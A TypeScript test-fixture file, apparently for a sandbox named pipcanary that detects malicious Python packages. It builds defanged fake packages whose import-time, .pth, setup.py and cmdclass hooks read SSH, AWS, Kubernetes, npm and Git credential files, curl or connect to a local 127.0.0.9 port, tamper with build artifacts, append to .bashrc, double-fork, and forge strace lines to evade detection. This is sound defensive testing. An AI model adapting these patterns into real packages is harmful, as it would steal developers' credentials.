/*
 * Test packages that imitate malware. Every payload is harmless even outside the sandbox: it
 * opens and reads files and discards the bytes, "exfiltrates" only to 127.0.0.x ports where
 * nothing listens, and never prints a secret. They are only ever run by pipcanary's sandbox.
 */
import { buildSdist } from "../harness/sdist.ts";
import type { FixtureProject } from "../harness/types.ts";
import { buildWheel } from "../harness/wheel.ts";
import { project } from "./helpers.ts";

export const READ_AND_DISCARD = "def _touch(path):\n    try:\n        with open(path, 'rb') as handle:\n            handle.read()\n    except OSError:\n        pass\n";

export function importPayload(name: string, module: string, body: string, extra: Partial<Parameters<typeof buildWheel>[0]> = {}): FixtureProject {
  return project(name, "1.0", buildWheel({ name, version: "1.0", files: { [`${module}/__init__.py`]: body }, ...extra }));
}

/** An sdist whose setup.py is the payload (it runs when pip builds metadata or the wheel). */
export function setupPayload(name: string, module: string, setupPy: string): FixtureProject {
  return project(name, "1.0", buildSdist({ name, version: "1.0", files: { [`${module}/__init__.py`]: "" }, setupPy }));
}

/** What a malicious case must be blamed on. */
export interface MaliciousCase {
  title: string;
  projects: FixtureProject[];
  /** What is asked for (may differ from the blamed package). */
  request: string;
  package: string;
  phase: "fetch" | "install" | "import";
  ruleId: string;
  /**
   * What the finding must name exactly: a path ("~/" is the decoy home, i.e. the real home's path:
   * symlinked, relative and dirfd-relative opens must be reported as the real file), "host:port",
   * or the executed argv.
   */
  subject: string | RegExp;
}

export const MALICIOUS_CASES: MaliciousCase[] = [
  {
    title: "import-time credential read",
    projects: [importPayload("evil-import", "evil_import", `import os\n${READ_AND_DISCARD}_touch(os.path.expanduser('~/.ssh/id_rsa'))\n`)],
    request: "evil-import",
    package: "evil-import",
    phase: "import",
    ruleId: "ssh",
    subject: "~/.ssh/id_rsa",
  },
  {
    title: "setup.py read at sdist build",
    projects: [
      setupPayload("evil-setup", "evil_setup", `import os\n${READ_AND_DISCARD}_touch(os.path.expanduser('~/.aws/credentials'))\nfrom setuptools import setup\nsetup(name='evil-setup', version='1.0', packages=['evil_setup'])\n`),
    ],
    request: "evil-setup",
    package: "evil-setup",
    phase: "fetch",
    ruleId: "aws",
    subject: "~/.aws/credentials",
  },
  {
    title: ".pth start-up payload",
    projects: [
      importPayload("evil-pth", "evil_pth", "", {
        pth: { "evil_pth_hook.pth": "import os; open(os.path.expanduser('~/.kube/config'), 'rb').read()\n" },
      }),
    ],
    request: "evil-pth",
    package: "evil-pth",
    phase: "import",
    ruleId: "kube",
    subject: "~/.kube/config",
  },
  {
    title: "dirfd-relative open",
    projects: [
      importPayload("evil-dirfd", "evil_dirfd", "import os\nhome = os.open(os.path.expanduser('~'), os.O_RDONLY | os.O_DIRECTORY)\ntry:\n    os.close(os.open('.aws/credentials', os.O_RDONLY, dir_fd=home))\nexcept OSError:\n    pass\n"),
    ],
    request: "evil-dirfd",
    package: "evil-dirfd",
    phase: "import",
    ruleId: "aws",
    subject: "~/.aws/credentials",
  },
  {
    title: "path hidden behind a symlink",
    projects: [
      importPayload("evil-symlink", "evil_symlink", `import os, tempfile\n${READ_AND_DISCARD}link = os.path.join(tempfile.mkdtemp(), 'innocent')\nos.symlink(os.path.expanduser('~'), link)\n_touch(os.path.join(link, '.docker', 'config.json'))\n`),
    ],
    request: "evil-symlink",
    package: "evil-symlink",
    phase: "import",
    ruleId: "docker-config",
    subject: "~/.docker/config.json",
  },
  {
    title: "relative path after chdir",
    projects: [importPayload("evil-chdir", "evil_chdir", `import os\n${READ_AND_DISCARD}os.chdir(os.path.expanduser('~'))\n_touch('.npmrc')\n`)],
    request: "evil-chdir",
    package: "evil-chdir",
    phase: "import",
    ruleId: "npm",
    subject: "~/.npmrc",
  },
  {
    title: "connect to a 127.0.0.x port",
    projects: [
      importPayload("evil-connect", "evil_connect", "import socket\ntry:\n    socket.create_connection(('127.0.0.9', 4444), timeout=1).close()\nexcept OSError:\n    pass\n"),
    ],
    request: "evil-connect",
    package: "evil-connect",
    phase: "import",
    ruleId: "network",
    subject: "127.0.0.9:4444",
  },
  {
    title: "setup.py sending data out through the download proxy",
    projects: [
      setupPayload("evil-egress", "evil_egress", [
        "import urllib.request",
        "try:",
        "    urllib.request.urlopen('http://127.0.0.9:4444/collect?host=build', timeout=2).read()",
        "except Exception:",
        "    pass",
        "from setuptools import setup",
        "setup(name='evil-egress', version='1.0', packages=['evil_egress'])",
        "",
      ].join("\n")),
    ],
    request: "evil-egress",
    package: "evil-egress",
    phase: "fetch",
    ruleId: "egress-refused",
    subject: "127.0.0.9:4444",
  },
  {
    title: "setup.py swapping the downloaded files",
    projects: [
      setupPayload("evil-tamper", "evil_tamper", [
        "import os",
        "argv = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().split(b'\\0')",
        "if b'--dest' in argv:",
        "    dest = argv[argv.index(b'--dest') + 1].decode()",
        "    open(os.path.join(dest, 'fake-9.9-py3-none-any.whl'), 'wb').close()",
        "from setuptools import setup",
        "setup(name='evil-tamper', version='1.0', packages=['evil_tamper'])",
        "",
      ].join("\n")),
    ],
    request: "evil-tamper",
    package: "evil-tamper",
    phase: "fetch",
    ruleId: "artifact-tampering",
    subject: /\/work\/artifacts\/fake-9\.9-py3-none-any\.whl$/,
  },
  {
    title: "cmdclass override running a shell",
    projects: [
      setupPayload("evil-cmdclass", "evil_cmdclass", [
          "import subprocess",
          "from setuptools import setup",
          "from setuptools.command.build_py import build_py",
          "class Build(build_py):",
          "    def run(self):",
          "        subprocess.call(['sh', '-c', 'curl -s -m 1 http://127.0.0.9:4444/x >/dev/null || true'])",
          "        super().run()",
          "setup(name='evil-cmdclass', version='1.0', packages=['evil_cmdclass'], cmdclass={'build_py': Build})",
          "",
        ].join("\n")),
    ],
    request: "evil-cmdclass",
    package: "evil-cmdclass",
    phase: "install",
    ruleId: "network-tool",
    subject: /^curl -s -m 1 http:\/\/127\.0\.0\.9:4444\/x$/,
  },
  {
    title: "wheel build planting files in the venv that holds the installed wheels",
    projects: [
      setupPayload("evil-plant", "evil_plant", [
        "import os",
        "argv = open('/proc/%d/cmdline' % os.getppid(), 'rb').read().split(b'\\0')",
        "if b'--wheel-dir' in argv:",
        "    work = os.path.dirname(argv[argv.index(b'--wheel-dir') + 1].decode())",
        "    os.makedirs(os.path.join(work, 'venv', 'lib'), exist_ok=True)",
        "from setuptools import setup",
        "setup(name='evil-plant', version='1.0', packages=['evil_plant'])",
        "",
      ].join("\n")),
    ],
    request: "evil-plant",
    package: "evil-plant",
    phase: "install",
    ruleId: "artifact-tampering",
    subject: /\/work\/venv\/lib$/,
  },
  {
    title: "persistence write",
    projects: [
      importPayload("evil-persist", "evil_persist", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('\\n# evil-persist was here\\n')\n"),
    ],
    request: "evil-persist",
    package: "evil-persist",
    phase: "import",
    ruleId: "persistence",
    subject: "~/.bashrc",
  },
  {
    title: "/proc probing",
    projects: [importPayload("evil-proc", "evil_proc", `${READ_AND_DISCARD}_touch('/proc/self/environ')\n`)],
    request: "evil-proc",
    package: "evil-proc",
    phase: "import",
    ruleId: "proc-probe",
    subject: /^\/proc\/(self|\d+)\/environ$/,
  },
  {
    title: "delayed double-forked child",
    projects: [
      importPayload("evil-daemon", "evil_daemon", [
        "import os, time",
        READ_AND_DISCARD,
        "if os.fork() == 0:",
        "    os.setsid()",
        "    if os.fork() == 0:",
        "        time.sleep(1)",
        "        _touch(os.path.expanduser('~/.ssh/id_ed25519'))",
        "    os._exit(0)",
        "",
      ].join("\n")),
    ],
    request: "evil-daemon",
    package: "evil-daemon",
    phase: "import",
    ruleId: "ssh",
    subject: "~/.ssh/id_ed25519",
  },
  {
    title: "forged strace and Package: lines on stderr",
    projects: [
      importPayload("evil-forger", "evil_forger", [
        "import os, sys",
        READ_AND_DISCARD,
        "home = os.path.expanduser('~')",
        "for pid in (1, 2, 99999):",
        "    sys.stderr.write('%d  openat(AT_FDCWD</>, \"%s/.ssh/id_rsa\", O_RDONLY) = 3<%s/.ssh/id_rsa>\\n' % (pid, home, home))",
        "    sys.stderr.write('Package: innocent-bystander\\n')",
        "sys.stderr.flush()",
        "_touch(os.path.join(home, '.git-credentials'))",
        "",
      ].join("\n")),
    ],
    request: "evil-forger",
    package: "evil-forger",
    phase: "import",
    ruleId: "git-credentials",
    subject: "~/.git-credentials",
  },
  {
    title: "benign package that depends on a malicious one",
    projects: [
      // "aaa-app" sorts first and imports its dependency: only dependency order blames right.
      project("aaa-app", "1.0", buildWheel({ name: "aaa-app", version: "1.0", files: { "aaa_app/__init__.py": "import zzz_evil_dep\n" }, requires: ["zzz-evil-dep"] })),
      importPayload("zzz-evil-dep", "zzz_evil_dep", `import os\n${READ_AND_DISCARD}_touch(os.path.expanduser('~/.pypirc'))\n`),
    ],
    request: "aaa-app",
    package: "zzz-evil-dep",
    phase: "import",
    ruleId: "pypirc",
    subject: "~/.pypirc",
  },
];

/** Benign behaviour that must not be flagged, all installed and imported in one scan. */
export const BENIGN_PROJECTS: FixtureProject[] = [
  project("good-data", "1.0", buildWheel({
    name: "good-data",
    version: "1.0",
    files: {
      "good_data/__init__.py": "import os\nwith open(os.path.join(os.path.dirname(__file__), 'data.txt')) as handle:\n    DATA = handle.read()\n",
      "good_data/data.txt": "hello\n",
    },
  })),
  project("good-cache", "1.0", buildWheel({
    name: "good-cache",
    version: "1.0",
    files: {
      "good_cache/__init__.py": "import os\ncache = os.path.expanduser('~/.cache/good-cache')\nos.makedirs(cache, exist_ok=True)\nwith open(os.path.join(cache, 'x'), 'w') as handle:\n    handle.write('cached')\n",
    },
  })),
  project("good-uname", "1.0", buildWheel({
    name: "good-uname",
    version: "1.0",
    files: { "good_uname/__init__.py": "import subprocess\nKERNEL = subprocess.run(['uname', '-sr'], capture_output=True, text=True).stdout\n" },
  })),
  project("good-osrelease", "1.0", buildWheel({
    name: "good-osrelease",
    version: "1.0",
    files: { "good_osrelease/__init__.py": "import platform\nINFO = platform.freedesktop_os_release()\nwith open('/etc/os-release') as handle:\n    RAW = handle.read()\n" },
  })),
  project("good-pathpth", "1.0", buildWheel({
    name: "good-pathpth",
    version: "1.0",
    files: { "good_pathpth_src/good_pathpth.py": "VALUE = 1\n" },
    pth: { "good_pathpth.pth": "good_pathpth_src\n" },
  })),
  project("good-execpth", "1.0", buildWheel({
    name: "good-execpth",
    version: "1.0",
    files: { "good_execpth/__init__.py": "VALUE = 3\n" },
    // Like setuptools' distutils-precedence.pth: code at start-up that touches nothing sensitive.
    pth: { "good_execpth.pth": "import os; os.environ.setdefault('GOOD_EXECPTH', 'local')\n" },
  })),
  project("good-sdist", "1.0", buildSdist({ name: "good-sdist", version: "1.0", files: { "good_sdist/__init__.py": "VALUE = 2\n" }, requires: ["good-data"] })),
];

export const BENIGN_REQUESTS = ["good-data", "good-cache", "good-uname", "good-osrelease", "good-pathpth", "good-execpth", "good-sdist"];
